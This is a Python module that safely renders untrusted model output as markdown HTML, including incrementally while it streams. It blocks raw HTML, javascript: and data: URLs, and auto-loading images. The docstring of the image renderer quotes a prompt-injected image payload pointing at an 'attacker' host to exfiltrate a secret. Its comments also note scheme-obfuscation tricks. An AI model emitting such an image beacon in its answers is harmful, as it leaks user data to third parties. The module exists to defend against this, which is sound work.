"""Safe markdown rendering for untrusted model output, whole or incrementally while it streams.

`render_markdown` is the one configuration used everywhere: CommonMark plus tables,
strikethrough and task lists, code fences coloured by Pygments with CSS classes, and no way for
model output to reach the page as live markup. The answer pane puts this HTML into ipywidgets'
`HTML.value`, which the browser assigns to `innerHTML` unsanitized: this module is the only guard.

`IncrementalMarkdown` renders a text that grows by appending so that the work (and the bytes a
view must send) grow linearly with the answer: blocks that can no longer change are rendered
once, only the open tail is re-rendered, and after `finish` the segments join to exactly
`render_markdown(text)`.

Pure: no widgets, no I/O.
"""

from __future__ import annotations

import html
import re
from bisect import bisect_right
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Any, Optional
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.rules_block import StateBlock
from markdown_it.rules_core import StateCore
from markdown_it.token import Token
from mdit_py_plugins.tasklists import tasklists_plugin
from pygments.lexer import Lexer
from pygments.lexers import get_lexer_by_name
from pygments.token import Token as PygmentsToken
from pygments.token import _TokenType
from pygments.util import ClassNotFound

from .heal import heal_blocks, heal_inline_rule
from .mathml import math_plugin

__all__ = [
    "render_markdown",
    "escape_html",
    "safe_url",
    "IncrementalMarkdown",
    "Patch",
    "PYGMENTS_CSS",
    "MARKDOWN_CLASS",
    "CITATION_CLASS",
    "CODE_CHUNK_CLASS",
]

#: The class of the element that holds rendered markdown; `PYGMENTS_CSS` is scoped to it.
MARKDOWN_CLASS = "sw-md"
#: The class of a `[n]` citation link.
CITATION_CLASS = "sw-cite"
#: The class of the `<pre>` pieces that show a code fence while it is still open.
CODE_CHUNK_CLASS = "sw-code-chunk"

# ---------------------------------------------------------------------------------------------
# URLs and escaping
# ---------------------------------------------------------------------------------------------

_LINK_SCHEMES = frozenset({"http", "https", "mailto"})
# Browsers drop ASCII tab and newline anywhere in a URL and C0 controls and spaces around it,
# so `java\tscript:` is `javascript:` to them: judge the scheme with those characters removed.
_URL_IGNORED_RE = re.compile(r"[\x00-\x20\x7f]")
_SCHEME_RE = re.compile(r"([^:/?#]*):")


def escape_html(s: str) -> str:
    """Escape text for an HTML text node or a double- or single-quoted attribute value."""
    return html.escape(s, quote=True)


def safe_url(url: object) -> Optional[str]:
    """Return `url` (trimmed) if it is an absolute http(s) URL fit for an `href`, else None.

    For source lists and tool panes, where a link comes straight from the provider: anything that
    is not plainly http(s) (`javascript:`, `data:`, a relative path, a URL with spaces or control
    characters in it) is shown as text instead. Escape the result with `escape_html` when putting
    it into an attribute.
    """
    if not isinstance(url, str):
        return None
    candidate = url.strip()
    if not candidate or _URL_IGNORED_RE.search(candidate):
        return None
    try:
        parts = urlsplit(candidate)
    except ValueError:
        return None
    if parts.scheme.lower() not in ("http", "https") or not parts.hostname:
        return None
    return candidate


def _is_safe_link(url: str) -> bool:
    """Allow http, https, mailto and relative URLs in links and images; nothing else.

    markdown-it's default also lets `data:image/(gif|png|jpeg|webp)` through. We refuse `data:`
    entirely: raster data images cannot run script, but a model has no business inlining base64
    blobs into an answer (they would cost the byte budget on every re-render of the tail), and
    one simple rule — the same for links and images — is the easiest to audit.
    """
    candidate = _URL_IGNORED_RE.sub("", url)
    match = _SCHEME_RE.match(candidate)
    if match is None:
        return True
    return match.group(1).lower() in _LINK_SCHEMES


# ---------------------------------------------------------------------------------------------
# Code highlighting
# ---------------------------------------------------------------------------------------------

# Pygments token types folded into the few roles a notebook theme colours. Fewer, coarser
# classes mean adjacent tokens merge into one span: highlighted code costs about 2x its source
# in bytes instead of 4x with one span per Pygments token. None means "no span".
_ROLE_OF: dict[_TokenType, Optional[str]] = {
    PygmentsToken: None,
    PygmentsToken.Text: None,
    PygmentsToken.Punctuation: None,
    PygmentsToken.Generic: None,
    PygmentsToken.Name: None,
    PygmentsToken.Keyword: "k",
    PygmentsToken.Operator.Word: "k",
    PygmentsToken.Keyword.Type: "nb",
    PygmentsToken.Name.Builtin: "nb",
    PygmentsToken.Name.Exception: "nb",
    PygmentsToken.Name.Function: "nf",
    PygmentsToken.Name.Class: "nf",
    PygmentsToken.Name.Decorator: "nd",
    PygmentsToken.Name.Label: "nd",
    PygmentsToken.Comment.Preproc: "nd",
    PygmentsToken.Name.Tag: "nt",
    PygmentsToken.Name.Attribute: "na",
    PygmentsToken.Name.Variable: "nv",
    PygmentsToken.Name.Constant: "nv",
    PygmentsToken.Name.Entity: "nv",
    PygmentsToken.Name.Property: "py",
    PygmentsToken.Literal: "m",
    PygmentsToken.Literal.String: "s",
    PygmentsToken.Comment.PreprocFile: "s",
    PygmentsToken.Comment: "c",
    PygmentsToken.Operator: "o",
    PygmentsToken.Generic.Heading: "gh",
    PygmentsToken.Generic.Subheading: "gh",
    PygmentsToken.Generic.Deleted: "gd",
    PygmentsToken.Generic.Inserted: "gi",
    PygmentsToken.Generic.Error: "err",
    PygmentsToken.Generic.Traceback: "err",
    PygmentsToken.Error: "err",
    PygmentsToken.Generic.Emph: "ge",
    PygmentsToken.Generic.Strong: "gs",
    PygmentsToken.Generic.Prompt: "gp",
    PygmentsToken.Generic.Output: "go",
}

# role: (JupyterLab CodeMirror variable, light fallback, dark fallback, extra declarations).
# The --jp-mirror-editor-* variables follow the light and dark JupyterLab themes by themselves;
# the fallbacks serve front ends without them (classic Notebook, VS Code, Colab).
_ROLE_STYLE: dict[str, tuple[Optional[str], str, str, str]] = {
    "k": ("keyword", "#008000", "#4caf50", "font-weight:bold"),
    "nb": ("builtin", "#008000", "#43a047", ""),
    "nf": ("def", "#0000ff", "#42a5f5", ""),
    "nd": ("meta", "#aa22ff", "#ce93d8", ""),
    "nt": ("tag", "#117700", "#66bb6a", "font-weight:bold"),
    "na": ("attribute", "#0000cc", "#64b5f6", ""),
    "nv": ("variable-2", "#00366d", "#42a5f5", ""),
    "py": ("property", "#0055aa", "#42a5f5", ""),
    "s": ("string", "#ba2121", "#ff7070", ""),
    "m": ("number", "#008800", "#66bb6a", ""),
    "c": ("comment", "#408080", "#80cbc4", "font-style:italic"),
    "o": ("operator", "#aa22ff", "#ce93d8", ""),
    "gh": ("header", "#0000ff", "#42a5f5", "font-weight:bold"),
    "gd": ("error", "#ff0000", "#ff5252", ""),
    "gi": ("quote", "#009900", "#81c784", ""),
    "err": ("error", "#ff0000", "#ff5252", ""),
    "ge": (None, "", "", "font-style:italic"),
    "gs": (None, "", "", "font-weight:bold"),
    "gp": ("meta", "#aa22ff", "#ce93d8", "font-weight:bold"),
    "go": ("comment", "#408080", "#80cbc4", ""),
}

DARK_CONTEXTS = (
    'body[data-jp-theme-light="false"]',  # JupyterLab / Notebook 7 / Voila dark themes
    "body.vscode-dark",
    "body.vscode-high-contrast:not(.vscode-high-contrast-light)",
    'html[theme="dark"]',  # Colab
)


def _build_pygments_css() -> str:
    scope = f".{MARKDOWN_CLASS}"
    light: list[str] = []
    dark: list[str] = []
    rules: list[str] = []
    for role, (variable, light_colour, dark_colour, extra) in _ROLE_STYLE.items():
        declarations = [extra] if extra else []
        if variable is not None:
            own = f"--sw-hl-{role}"
            light.append(f"{own}:var(--jp-mirror-editor-{variable}-color,{light_colour})")
            dark.append(f"{own}:var(--jp-mirror-editor-{variable}-color,{dark_colour})")
            declarations.insert(0, f"color:var({own})")
        rules.append(f"{scope} pre .{role}{{{';'.join(declarations)}}}")
    dark_selector = ",".join(f"{context} {scope}" for context in DARK_CONTEXTS)
    # The pieces of a still-open fence follow each other without a seam.
    chunk = (
        f"{scope} pre.{CODE_CHUNK_CLASS}{{margin-top:0;margin-bottom:0;padding-top:0;padding-bottom:0;border-radius:0}}"
    )
    return "\n".join([f"{scope}{{{';'.join(light)}}}", f"{dark_selector}{{{';'.join(dark)}}}", *rules, chunk])


#: CSS for code blocks (colours, open-fence pieces), scoped to `.sw-md`; inject it once per page.
PYGMENTS_CSS = _build_pygments_css()


def _role(ttype: _TokenType) -> Optional[str]:
    while ttype not in _ROLE_OF:
        ttype = ttype.parent
    return _ROLE_OF[ttype]


@lru_cache(maxsize=64)
def _lexer(lang: str) -> Optional[Lexer]:
    """Pygments' lexer for a fence's language, or None. Looked up once per language: the lookup
    scans every lexer's aliases and cost more than highlighting a short block."""
    try:
        return get_lexer_by_name(lang, stripnl=False, ensurenl=False)
    except ClassNotFound:
        return None


def _highlight(code: str, lang: str, _attrs: str) -> str:
    """markdown-it's `highlight` option: spans with role classes, or "" to have it escape."""
    lexer = _lexer(lang) if lang else None
    if lexer is None:
        return ""
    out: list[str] = []
    pending: list[str] = []
    current: Optional[str] = None
    for ttype, value in lexer.get_tokens(code):
        role = _role(ttype)
        if role != current and pending:
            out.append(_span(current, "".join(pending)))
            pending = []
        current = role
        pending.append(value)
    if pending:
        out.append(_span(current, "".join(pending)))
    return "".join(out)


def _span(role: Optional[str], text: str) -> str:
    escaped = html.escape(text, quote=False)
    return escaped if role is None else f'<span class="{role}">{escaped}</span>'


# ---------------------------------------------------------------------------------------------
# The parser
# ---------------------------------------------------------------------------------------------

_CITATION_RE = re.compile(r"\[([1-9][0-9]{0,3})\]")


def _citation_targets(urls: Optional[Iterable[str]]) -> tuple[Optional[str], ...]:
    """The link for each `[n]` (n = index + 1); None where the URL is not plainly http(s)."""
    return tuple(safe_url(url) for url in urls or ())


def _link_citations(state: StateCore) -> None:
    """Core rule: turn `[n]` in plain text (not code, not link text) into a link to source n.

    Runs before `text_join`, so an escaped `\\[1]` (a separate text_special token) stays text.
    """
    targets: tuple[Optional[str], ...] = state.env.get("citations") or ()
    if not targets:
        return
    for block in state.tokens:
        if block.type != "inline" or not block.children:
            continue
        children: list[Token] = []
        depth = 0
        for token in block.children:
            if token.type == "link_open":
                depth += 1
            elif token.type == "link_close":
                depth -= 1
            elif token.type == "text" and depth == 0 and "[" in token.content:
                children.extend(_split_citations(token.content, targets))
                continue
            children.append(token)
        block.children = children


def _split_citations(text: str, targets: tuple[Optional[str], ...]) -> list[Token]:
    tokens: list[Token] = []
    last = 0
    for match in _CITATION_RE.finditer(text):
        number = int(match.group(1))
        url = targets[number - 1] if number <= len(targets) else None
        if url is None:
            continue
        if match.start() > last:
            tokens.append(Token("text", "", 0, content=text[last : match.start()]))
        tokens.append(Token("link_open", "a", 1, attrs={"href": url, "class": CITATION_CLASS}))
        tokens.append(Token("text", "", 0, content=match.group(0)))
        tokens.append(Token("link_close", "a", -1))
        last = match.end()
    if last < len(text):
        tokens.append(Token("text", "", 0, content=text[last:]))
    return tokens


def _render_link_open(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    """Links leave the notebook: a new tab, no opener, no referrer."""
    token = tokens[idx]
    token.attrSet("target", "_blank")
    token.attrSet("rel", "noopener noreferrer")
    return str(self.renderToken(tokens, idx, options, env))


def _render_image(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    """Images become links: an image in model output loads by itself, and a prompt-injected
    `![](https://attacker/?q=<secret>)` would send data out the moment the answer renders."""
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env)
    src = escape_html(str(token.attrGet("src") or ""))
    return (
        f'<a href="{src}" target="_blank" rel="noopener noreferrer" class="sw-image-link">'
        f"[image: {escape_html(alt) or 'untitled'}]</a>"
    )


class _SafeMarkdownIt(MarkdownIt):
    def validateLink(self, url: str) -> bool:
        return _is_safe_link(url)


@lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    """One shared parser: rendering keeps no state in it (all per-document data is in `env`)."""
    return _new_parser()


def _new_parser() -> MarkdownIt:
    md = _SafeMarkdownIt(
        "commonmark",
        {"html": False, "linkify": False, "typographer": False, "highlight": _highlight},
    )
    md.enable(["table", "strikethrough"])
    md.use(tasklists_plugin)
    md.use(math_plugin)
    md.add_render_rule("link_open", _render_link_open)
    md.add_render_rule("image", _render_image)
    md.core.ruler.before("text_join", "sw_citations", _link_citations)
    md.core.ruler.after("inline", "sw_heal", heal_inline_rule)
    md.add_render_rule("sw_hidden", lambda *_args: "")
    return md


def render_markdown(text: str, citations: Optional[Sequence[str]] = None) -> str:
    """Render markdown from a model to HTML that is safe to put into `innerHTML`.

    No raw HTML (it is shown escaped), links and images only http(s), mailto or relative, every
    attribute escaped, links open in a new tab without opener or referrer. With `citations`
    (source URLs in order), `[1]`, `[2]`... in the text link to those sources.
    """
    rendered: str = _parser().render(text, {"citations": _citation_targets(citations)})
    return rendered


# ---------------------------------------------------------------------------------------------
# Incremental rendering
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Patch:
    """How the segments changed: `segments[start:]` are replaced by `segments`.

    An append is a patch whose start is the old length; a re-rendered tail replaces the last
    segment; a consolidated code fence replaces several segments by one. `reset` says the new
    text was not an extension of the old one, so everything was rendered afresh.
    """

    start: int
    segments: tuple[str, ...]
    reset: bool = False

    def apply(self, segments: list[str]) -> None:
        """Apply the patch to a list of segments in place."""
        segments[self.start :] = self.segments


@dataclass
class _Block:
    """A committed top-level block: final HTML for the source region [start, end)."""

    start: int
    end: int
    html: str
    lookups: frozenset[str]  # reference labels its inline content asked for
    refs: dict[str, dict[str, Any]]  # reference definitions inside its region


@dataclass
class _OpenFence:
    """A top-level code fence still open at the end of the text, shown as chunks of lines."""

    opener: str  # the opening line
    markup: str  # ``` or ~~~ (or longer)
    chunked_to: int  # offset up to which complete lines have become chunks
    chunks: list[str] = field(default_factory=list)


@dataclass
class _Group:
    tokens: list[Token]
    begin: int  # first line
    end: int  # line after the last


class _LookupRecorder:
    """Stands in for env["references"] and notes every label the inline parser asks for.

    A committed block must be re-rendered when the definition of a label it asked for appears,
    changes or goes away; these notes say which blocks.
    """

    def __init__(self, refs: dict[str, dict[str, Any]]) -> None:
        self._refs = refs
        self.labels: set[str] = set()

    def get(self, label: str, default: Any = None) -> Any:
        self.labels.add(label)
        return self._refs.get(label, default)


def _normalize(text: str) -> str:
    """markdown-it's own input normalization (line endings, NUL)."""
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")


def _columns(indent: str) -> int:
    column = 0
    for ch in indent:
        column += 4 - column % 4 if ch == "\t" else 1
    return column


def _closes_fence(line: str, markup: str) -> bool:
    """Is `line` a closing fence for a top-level fence opened with `markup` (as markdown-it says)?"""
    body = line.lstrip(" \t")
    if _columns(line[: len(line) - len(body)]) >= 4:
        return False
    run = len(body) - len(body.lstrip(markup[0]))
    return run >= len(markup) and not body[run:].strip(" \t")


def _may_close_fence(partial: str, markup: str) -> bool:
    """An unfinished last line that could still become the fence's closing line."""
    marks = partial.lstrip(" ")
    return bool(marks) and len(partial) - len(marks) <= 3 and marks.rstrip(" ") == markup[0] * len(marks.rstrip(" "))


def _top_level_groups(tokens: list[Token]) -> list[_Group]:
    groups: list[_Group] = []
    start = 0
    for i, token in enumerate(tokens):
        if token.level == 0 and token.nesting <= 0:
            first = tokens[start]
            assert first.map is not None
            groups.append(_Group(tokens[start : i + 1], first.map[0], first.map[1]))
            start = i + 1
    return groups


class IncrementalMarkdown:
    """Renders a growing markdown text as an ordered list of HTML segments.

    Feed it the whole text so far with `update`, and the final text with `finish`; each returns
    the `Patch` that turns the previous segments into the new ones. Segments are the committed
    top-level blocks (never touched again unless a new link reference definition or citation
    list changes them), then — while a top-level code fence is open — chunks of its finished
    lines, and last the live tail, re-rendered on every update.

    The tail is parsed with markdown-it's block parser from the last commit boundary; each
    top-level token group (with its `map` line range) is a candidate. A group is committed once
    the next one has started on a complete line (and, if it follows with no blank line between,
    its second line is complete too: a table interrupts a paragraph only when its delimiter row
    follows), or once it is a code fence whose closing line is complete. Nothing appended can
    then change it, except a link reference definition: every committed block records the
    labels it looked up, and when a definition for one of them appears, changes or vanishes,
    rendering rewinds to that block. A quote or list item that ends in a definition waits for a
    blank line, since the definition's title may run on into lazy lines.

    An open top-level code fence is not re-rendered per update: its new complete lines become a
    chunk (its own `<pre>`, styled to join the others seamlessly), and when it closes (or at
    `finish`) its chunks are replaced once by the exact HTML of the whole fence.

    Exactness: after `finish(text)`, `"".join(segments) == render_markdown(text)`, however the
    text was chunked; whenever `exact` is True the join equals `render_markdown(text_so_far)`.
    """

    def __init__(self, citations: Optional[Sequence[str]] = None, *, heal: bool = False) -> None:
        self._md = _new_parser()
        self._heal = heal
        self._cut_off = False
        rule_names = self._md.core.ruler.get_active_rules()
        self._after_block = self._md.core.ruler.getRules("")[rule_names.index("block") + 1 :]
        self._citations = _citation_targets(citations)
        self._clear()

    def _clear(self) -> None:
        self._raw = ""  # the text as given
        self._text = ""  # the text normalized as markdown-it does
        self._blocks: list[_Block] = []
        self._boundary = 0  # offset where the uncommitted tail starts
        self._refs: dict[str, dict[str, Any]] = {}  # definitions in committed blocks
        self._first_use: dict[str, int] = {}  # label -> first committed block that asked
        self._seen: dict[str, tuple[str, str]] = {}  # the definitions the blocks were rendered with
        self._fence: Optional[_OpenFence] = None
        self._typing_definition = False
        self._tail = ""
        self._segments: list[str] = [""]
        self._finished = False

    # -- public ---------------------------------------------------------------------------------

    @property
    def segments(self) -> tuple[str, ...]:
        """The document as HTML segments (a copy)."""
        return tuple(self._segments)

    @property
    def html(self) -> str:
        return "".join(self._segments)

    @property
    def text(self) -> str:
        """The text rendered so far, as it was given."""
        return self._raw

    @property
    def exact(self) -> bool:
        """True when the segments join to exactly `render_markdown(self.text)`.

        False while chunks of an open code fence are showing, while a link reference
        definition is being typed on the last line (it takes effect once its line is complete),
        and, with `heal`, while the healed tail is showing.
        """
        healing = self._heal and (not self._finished or self._cut_off)
        return self._fence is None and not self._typing_definition and not healing

    @property
    def finished(self) -> bool:
        return self._finished

    def update(self, text: str) -> Patch:
        """Render the text so far (the previous text plus what was appended)."""
        return self._advance(text, final=False)

    def finish(self, text: str, cut_off: bool = False) -> Patch:
        """Render the final text: every block is committed and exact.

        With `heal` and `cut_off` (the answer stopped short), the last block keeps its healed
        form: a marker left dangling by the cut is not shown.
        """
        again = self._finished and cut_off != self._cut_off  # the same text, rendered the other way
        self._cut_off = cut_off
        return self._advance(text, final=True, again=again)

    def set_citations(self, urls: Optional[Sequence[str]]) -> Patch:
        """Change the sources `[n]` markers link to; re-renders from the first affected block."""
        targets = _citation_targets(urls)
        old = self._citations
        if targets == old:
            return Patch(len(self._segments), ())
        self._citations = targets
        changed = {
            n + 1
            for n in range(max(len(old), len(targets)))
            if (old[n] if n < len(old) else None) != (targets[n] if n < len(targets) else None)
        }
        first = self._tail_index()
        committed = self._text[: self._boundary]
        for match in _CITATION_RE.finditer(committed):
            if int(match.group(1)) in changed:
                starts = [block.start for block in self._blocks]
                first = bisect_right(starts, match.start()) - 1
                self._rewind(first)
                break
        return self._publish(min(first, self._process(self._finished)))

    # -- the update cycle ---------------------------------------------------------------------

    def _advance(self, text: str, final: bool, again: bool = False) -> Patch:
        if text == self._raw and (self._finished or not final) and not again:
            return Patch(len(self._segments), ())
        if again or self._finished or not text.startswith(self._raw):
            self._clear()
            self._append(text)
            self._process(final)
            self._finished = final
            self._segments = self._derive(0)
            return Patch(0, tuple(self._segments), reset=True)
        self._append(text)
        first = self._process(final)
        self._finished = final
        return self._publish(first)

    def _append(self, text: str) -> None:
        added = text[len(self._raw) :]
        if self._text is self._raw and "\r" not in added and "\0" not in added:
            self._text = text  # the common case: nothing to normalize, no copy
        else:
            if self._raw.endswith("\r") and added.startswith("\n"):
                added = added[1:]  # the \r already stood for this \r\n
            self._text = self._text + _normalize(added)
        self._raw = text

    def _tail_index(self) -> int:
        return len(self._blocks) + (len(self._fence.chunks) if self._fence else 0)

    def _derive(self, first: int) -> list[str]:
        """The segments from index `first` on, from the committed blocks, chunks and tail."""
        count = len(self._blocks)
        out = [block.html for block in self._blocks[first:]]
        if self._fence is not None:
            out.extend(self._fence.chunks[max(0, first - count) :])
        out.append(self._tail)
        return out

    def _publish(self, first: int) -> Patch:
        old = self._segments[first:]
        new = self._derive(first)
        same = 0
        while same < len(old) and same < len(new) and old[same] == new[same]:
            same += 1
        self._segments[first:] = new
        return Patch(first + same, tuple(new[same:]))

    def _process(self, final: bool) -> int:
        """Bring blocks, chunks and tail up to date; return the first segment index touched."""
        first = self._tail_index()
        if self._fence is not None:
            if not final and self._extend_fence():
                return first  # a new chunk, if any, took the tail's old place
            first = len(self._blocks)  # the chunks go: the fence is rendered whole below
            self._fence = None

        while True:
            src = self._text[self._boundary :]
            env: dict[str, Any] = {"references": dict(self._refs)}
            tokens: list[Token] = []
            state = StateBlock(src, self._md, env, tokens)
            self._md.block.tokenize(state, state.line, state.lineMax)
            complete = src.count("\n")  # lines [0, complete) end with a newline
            # A definition still being typed on the last line ([1]: https://exa...) is left out
            # until its line is complete, so earlier links do not follow it keystroke by keystroke.
            refs: dict[str, dict[str, Any]] = {
                label: ref
                for label, ref in env["references"].items()
                if final or label in self._refs or ref["map"][1] <= complete
            }
            self._typing_definition = len(refs) < len(env["references"])
            seen = {label: (ref["href"], ref["title"]) for label, ref in refs.items()}
            changed = (seen.keys() ^ self._seen.keys()) | {
                label for label in seen.keys() & self._seen.keys() if seen[label] != self._seen[label]
            }
            self._seen = seen
            affected = [self._first_use[label] for label in changed if label in self._first_use]
            if not affected:
                break
            first = min(first, min(affected))
            self._rewind(min(affected))

        groups = _top_level_groups(tokens)
        definitions = [ref["map"] for label, ref in env["references"].items() if label not in self._refs]
        definitions += [ref["map"] for ref in env.get("duplicate_refs", ())]
        count = len(groups) if final else self._count_final(groups, state, complete, definitions)
        healing = self._heal and (not final or self._cut_off)
        if final and healing and groups and groups[-1].tokens[0].type != "fence":
            count -= 1  # the cut-off last block is rendered healed, as the tail
        base = self._boundary
        for group in groups[:count]:
            html_text, lookups = self._render(group.tokens, refs)
            defined = {
                label: ref for label, ref in refs.items() if label not in self._refs and ref["map"][1] <= group.end
            }
            index = len(self._blocks)
            end = base + min(state.eMarks[group.end - 1] + 1, len(src))
            self._blocks.append(_Block(self._boundary, end, html_text, lookups, defined))
            self._refs.update(defined)
            for label in lookups:
                self._first_use.setdefault(label, index)
            self._boundary = end
        rest = groups[count:]

        if (
            not final
            and len(rest) == 1
            and rest[0].tokens[0].type == "fence"
            and rest[0].begin < complete  # the opening line is complete, so it is fixed
        ):
            opener = src[state.bMarks[rest[0].begin] : state.eMarks[rest[0].begin]]
            self._fence = _OpenFence(
                opener=opener,
                markup=rest[0].tokens[0].markup,
                chunked_to=base + state.eMarks[rest[0].begin] + 1,
            )
            self._extend_fence()
            return first
        self._tail = self._render([t for group in rest for t in group.tokens], refs, src if healing else None)[0]
        return first

    def _count_final(
        self,
        groups: list[_Group],
        state: StateBlock,
        complete: int,
        definitions: list[list[int]],
    ) -> int:
        """How many leading groups nothing appended can change any more."""
        count = 0
        for i, group in enumerate(groups):
            following = groups[i + 1].begin if i + 1 < len(groups) else complete
            if following < complete and (group.end < following or following + 1 < complete):
                # The next block has started on a complete line, so this one has ended for good:
                # after a blank line, that line alone decided it (a list or indented code could
                # have gone on); right after this block, the line after it counts too (a table
                # interrupts a paragraph only if its delimiter row follows the header).
                if group.end == following and self._may_still_grow(group, state, complete, definitions):
                    break
                count += 1
            elif self._is_closed_fence(group, state, complete):
                count += 1
            else:
                break
        return count

    @staticmethod
    def _may_still_grow(group: _Group, state: StateBlock, complete: int, definitions: list[list[int]]) -> bool:
        """A reference definition ending a quote or list item can take in the lines after it.

        Its title (or label, or destination) may continue on the next lines, read lazily up to
        a blank line: `> [a]: /u` then `"title` then `more"` makes the quote swallow all three
        lines once the quote mark closes. Until a blank line bounds that, the group may grow.
        """
        if not any(begin >= group.begin and end == group.end for begin, end in definitions):
            return False
        return not any(state.isEmpty(line) for line in range(group.end, complete))

    @staticmethod
    def _is_closed_fence(group: _Group, state: StateBlock, complete: int) -> bool:
        token = group.tokens[0]
        if token.type != "fence" or group.end > complete:
            return False
        if group.end < state.lineMax:
            return True  # an unclosed fence would run to the end of the text
        last = group.end - 1
        line = state.src[state.bMarks[last] : state.eMarks[last]]
        return last > group.begin and _closes_fence(line, token.markup)

    def _extend_fence(self) -> bool:
        """Chunk the open fence's new complete lines; False when a line closed the fence."""
        fence = self._fence
        assert fence is not None
        text = self._text
        complete_to = text.rfind("\n", fence.chunked_to - 1) + 1
        if complete_to > fence.chunked_to:
            lines = text[fence.chunked_to : complete_to]
            if any(_closes_fence(line, fence.markup) for line in lines[:-1].split("\n")):
                return False
            fence.chunks.append(self._render_fence_piece(fence.opener, lines))
            fence.chunked_to = complete_to
        partial = text[fence.chunked_to :]
        if _may_close_fence(partial, fence.markup):
            partial = ""  # half of the closing fence: showing it would flash a stray backtick
        self._tail = self._render_fence_piece(fence.opener, partial) if partial else ""
        return True

    def _render_fence_piece(self, opener: str, lines: str) -> str:
        """Some lines of an open fence as their own `<pre>`, styled to join up seamlessly."""
        tokens: list[Token] = []
        self._md.block.parse(opener + "\n" + lines, self._md, {}, tokens)
        rendered: str = self._md.renderer.render(tokens[:1], self._md.options, {})
        return f'<pre class="{CODE_CHUNK_CLASS}">' + rendered[len("<pre>") :]

    def _render(
        self, tokens: list[Token], refs: dict[str, dict[str, Any]], heal: Optional[str] = None
    ) -> tuple[str, frozenset[str]]:
        """Run the core rules after `block` on some top-level blocks, then render them.

        With `heal` (the source the tokens were parsed from), the last block is healed for display.
        """
        recorder = _LookupRecorder(refs)
        env: dict[str, Any] = {"references": recorder, "citations": self._citations}
        if heal is not None and tokens:
            heal_blocks(tokens, heal, env)
        state = StateCore("", self._md, env, tokens)
        for rule in self._after_block:
            rule(state)
        rendered = self._md.renderer.render(state.tokens, self._md.options, env)
        return rendered, frozenset(recorder.labels)

    def _rewind(self, index: int) -> None:
        """Uncommit blocks from `index` on: they will be parsed and rendered again."""
        self._boundary = self._blocks[index].start
        del self._blocks[index:]
        self._refs = {}
        self._first_use = {}
        for i, block in enumerate(self._blocks):
            self._refs.update(block.refs)
            for label in block.lookups:
                self._first_use.setdefault(label, i)
        self._fence = None
